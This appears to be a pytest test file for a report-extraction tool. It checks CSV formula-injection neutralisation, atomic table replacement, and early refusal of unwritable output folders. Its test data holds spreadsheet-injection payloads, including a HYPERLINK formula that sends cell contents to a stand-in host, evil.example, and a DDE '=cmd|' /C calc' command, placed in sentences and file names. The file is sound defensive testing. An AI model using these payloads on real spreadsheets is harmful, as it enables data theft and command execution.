"""Outputs cannot attack and cannot mix: formula-looking cells are neutralised in every CSV,
a run's tables replace the previous run's all at once, and an unwritable output is refused in
one line before any report is read.
"""
from __future__ import annotations

import csv
import io
import os
import signal
import subprocess
import sys
from pathlib import Path

import pytest
from _util import ROOT, env, permissions_apply, read, run_cli, small_corpus, tables

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

# sentences a report could hold (or that a hostile file could be written to hold)
HOSTILE_LINES = [
    '=HYPERLINK("http://evil.example/?q="&A1,"点击")空气优良天数164天，优良率为89.6%。',
    "@SUM(A1:A9)检查企业120家，立案查处15件。",
    "+1+1化学需氧量排放量下降3.2%。",
    "-2+3氨氮排放量下降2.5%。",
    "=cmd|' /C calc'!A0 PM2.5平均浓度为31微克/立方米。",
]


def hostile_report() -> str:
    return ("九江市庐山生态环境局2022年上半年工作总结\n"
            "一、环境质量\n" + "\n".join(HOSTILE_LINES) + "\n"
            "=问题标题\n二、存在的问题\n一是监管力量不足。二是资金短缺。\n"
            "三、下半年工作计划\n继续深入打好污染防治攻坚战。\n")


def cells(path: Path):
    text = path.read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    return rows[0], rows[1:]


@pytest.fixture(scope="module")
def hostile_out(tmp_path_factory):
    base = tmp_path_factory.mktemp("formula")
    folder = base / "r"
    folder.mkdir()
    (folder / "=cmd|' -C calc'!A0.txt").write_text(hostile_report(), encoding="utf-8")
    (folder / "@SUM(A1).txt").write_text(hostile_report(), encoding="utf-8")
    (folder / "-2+3.txt").write_bytes(b"")  # an errors row whose doc_id looks like a formula
    out = base / "out"
    proc = run_cli("extract", folder, "--out", out, "--no-cache", "--jobs", "1", "-q")
    assert proc.returncode == 0, proc.stderr[-2000:]
    return out


def test_no_csv_cell_can_start_a_formula(hostile_out):
    seen = {}
    for p in sorted(hostile_out.glob("*.csv")):
        header, rows = cells(p)
        for row in rows:
            for col, v in zip(header, row):
                if v.startswith("'") and v[1:].startswith(FORMULA_START):
                    seen.setdefault(p.stem, set()).add(col)
                try:
                    float(v.rstrip("%"))
                    continue  # a plain number (a negative value) is a number, not a formula
                except ValueError:
                    pass
                assert not v.startswith(FORMULA_START), (p.name, col, v[:60])
    # the hostile sentences and file names really reached the tables, neutralised
    assert {"doc_id"} <= seen["reports"] and {"doc_id"} <= seen["errors"], seen
    assert "sentence" in seen["figures"] and "sentence" in seen["indicators"], seen
    assert "doc_id" in seen["sections"] and "doc_id" in seen["terms"], seen


def test_neutralised_cells_keep_their_text_and_numbers_stay_numbers(hostile_out):
    reports = read(hostile_out, "reports")
    assert sorted(reports.doc_id) == ["'=cmd|' -C calc'!A0", "'@SUM(A1)"]
    figures = read(hostile_out, "figures")
    summed = figures[figures.sentence.str.contains("@SUM(A1:A9)", regex=False)]
    assert len(summed) and all(s.startswith("'@SUM(A1:A9)检查企业") for s in summed.sentence)
    assert "164" in set(figures.value.str.replace(r"\.0$", "", regex=True))  # the value column is plain numbers
    assert not figures.value.str.startswith("'").any()


def test_negative_numbers_in_numeric_columns_are_untouched():
    import pandas as pd

    from ecoanalysis.writers import table_to_csv_bytes

    df = pd.DataFrame({"doc_id": ["-2+3", "=1", "a"], "value": [-3.5, -2.0, 1.0], "value_text": ["-3.5", "-2", "+1"]})
    text = table_to_csv_bytes(df).decode("utf-8-sig")
    assert text == "doc_id,value,value_text\n'-2+3,-3.5,-3.5\n'=1,-2.0,-2\na,1.0,+1\n"


# ---------------------------------------------------------------- one run, never a mix


def _two_corpora(base: Path):
    a = small_corpus(base / "a", 1)
    b = small_corpus(base / "b", 2)
    return a, b


@pytest.fixture(scope="module")
def runs(tmp_path_factory):
    """Tables of corpus A and of corpus B (every table differs between the two)."""
    base = tmp_path_factory.mktemp("runs")
    a, b = _two_corpora(base)
    for name, folder in (("A", a), ("B", b)):
        proc = run_cli("extract", folder, "--out", base / f"out{name}", "--cache-dir", base / "cache", "-j", "1", "-q")
        assert proc.returncode == 0, proc.stderr[-2000:]
    ta, tb = tables(base / "outA"), tables(base / "outB")
    differ = [n for n in ta if ta[n] != tb[n]]
    assert len(differ) >= 8, differ
    return {"base": base, "a": a, "b": b, "A": ta, "B": tb, "cache": base / "cache"}


KILL_AFTER_N_WRITES = """
import os, signal, sys
from ecoanalysis import writers
real, n = writers.atomic_write_bytes, [0]
def dying(path, data):
    n[0] += 1
    if n[0] > {n}:
        os.kill(os.getpid(), signal.SIGKILL)  # a real SIGKILL halfway through the tables
    return real(path, data)
writers.atomic_write_bytes = dying
from ecoanalysis.corpus import read_corpus
read_corpus({folder!r}, jobs=1, cache={cache!r}).to_dir({out!r})
"""


@pytest.mark.parametrize("n", [0, 3, 7, 11])
def test_a_killed_run_leaves_the_previous_run_whole(runs, tmp_path, n):
    out = tmp_path / "out"
    proc = run_cli("extract", runs["a"], "--out", out, "--cache-dir", runs["cache"], "-j", "1", "-q")
    assert proc.returncode == 0
    code = KILL_AFTER_N_WRITES.format(n=n, folder=str(runs["b"]), cache=str(runs["cache"]), out=str(out))
    proc = subprocess.run([sys.executable, "-c", code], cwd=ROOT, env=env(), capture_output=True, timeout=300)
    assert proc.returncode == -signal.SIGKILL, proc.stderr[-2000:]
    assert tables(out) == runs["A"], "tables of two runs side by side"
    # the next run cleans up the killed run's temporary folder and writes B whole
    proc = run_cli("extract", runs["b"], "--out", out, "--cache-dir", runs["cache"], "-j", "1", "-q")
    assert proc.returncode == 0
    assert tables(out) == runs["B"]
    assert sorted(os.listdir(tmp_path)) == ["out"], os.listdir(tmp_path)


def test_a_failed_write_leaves_the_previous_run_whole(runs, tmp_path):
    from ecoanalysis.corpus import read_corpus

    out = tmp_path / "out"
    read_corpus(runs["a"], jobs=1, cache=runs["cache"]).to_dir(out)
    c = read_corpus(runs["b"], jobs=1, cache=runs["cache"])
    c._key = None  # write from the DataFrames, not the cache's kept CSV bytes
    c.problems = None  # a table that cannot be written, halfway through the list
    with pytest.raises(AttributeError):
        c.to_dir(out)
    assert tables(out) == runs["A"]
    assert sorted(os.listdir(tmp_path)) == ["out"]


def test_other_files_in_the_output_folder_are_kept(runs, tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    (out / "README.txt").write_text("my notes", encoding="utf-8")
    proc = run_cli("extract", runs["b"], "--out", out, "--cache-dir", runs["cache"], "-j", "1", "-q")
    assert proc.returncode == 0, proc.stderr
    got = tables(out)
    assert got.pop("README.txt") == b"my notes"
    assert got == runs["B"]


# ---------------------------------------------------------------- output errors before the work


def _one_line_error(proc, code):
    assert proc.returncode == code, (proc.returncode, proc.stderr[-2000:])
    assert "Traceback" not in proc.stderr, proc.stderr[-3000:]
    lines = [ln for ln in proc.stderr.splitlines() if ln.strip()]
    assert len(lines) == 1 and lines[0].startswith("ecoanalysis: cannot write to"), lines
    assert "read " not in proc.stdout  # refused before any report was read


def test_out_is_a_file(tmp_path):
    folder = small_corpus(tmp_path / "r", 1)
    (tmp_path / "out").write_text("not a folder", encoding="utf-8")
    proc = run_cli("extract", folder, "--out", tmp_path / "out", "--cache-dir", tmp_path / "cache", "-j", "1")
    _one_line_error(proc, 2)
    assert not (tmp_path / "cache").exists(), "refused before the work started"
    proc = run_cli("extract", folder, "--out", tmp_path / "out" / "deeper", "--no-cache", "-j", "1")
    _one_line_error(proc, 2)
    proc = run_cli("figures", folder, "--out", tmp_path / "figs", "--tables", tmp_path / "out", "--no-cache", "-j", "1")
    _one_line_error(proc, 2)
    proc = run_cli("report", folder, "--out", tmp_path, "--no-cache", "-j", "1")
    _one_line_error(proc, 2)


@pytest.mark.skipif(not Path("/proc/self").is_dir(), reason="needs Linux /proc (a folder nobody can write in)")
def test_out_on_a_filesystem_that_refuses_writes(tmp_path):
    folder = small_corpus(tmp_path / "r", 1)
    proc = run_cli("extract", folder, "--out", "/proc/ecoanalysis-out", "--no-cache", "-j", "1")
    _one_line_error(proc, 1)


@pytest.mark.skipif(not permissions_apply(), reason="file modes cannot be made to apply to this user")
def test_out_in_a_read_only_folder(tmp_path):
    folder = small_corpus(tmp_path / "r", 1)
    ro = tmp_path / "ro"
    ro.mkdir()
    ro.chmod(0o555)
    try:
        proc = run_cli("extract", folder, "--out", ro / "out", "--no-cache", "-j", "1", obey_modes=True)
        _one_line_error(proc, 1)
    finally:
        ro.chmod(0o755)



def test_an_output_folder_that_is_a_link_stays_a_link(tmp_path):
    from ecoanalysis.writers import TableRun

    real = tmp_path / "real"
    real.mkdir()
    (real / "old.csv").write_bytes(b"old")
    link = tmp_path / "link"
    link.symlink_to(real)
    with TableRun(link, ["a.csv"]) as run:
        run.write_bytes("a.csv", b"new")
    assert link.is_symlink() and link.resolve() == real.resolve()
    assert sorted(p.name for p in real.iterdir()) == ["a.csv", "old.csv"]
    assert run.written == [link / "a.csv"]
    assert sorted(os.listdir(tmp_path)) == ["link", "real"]
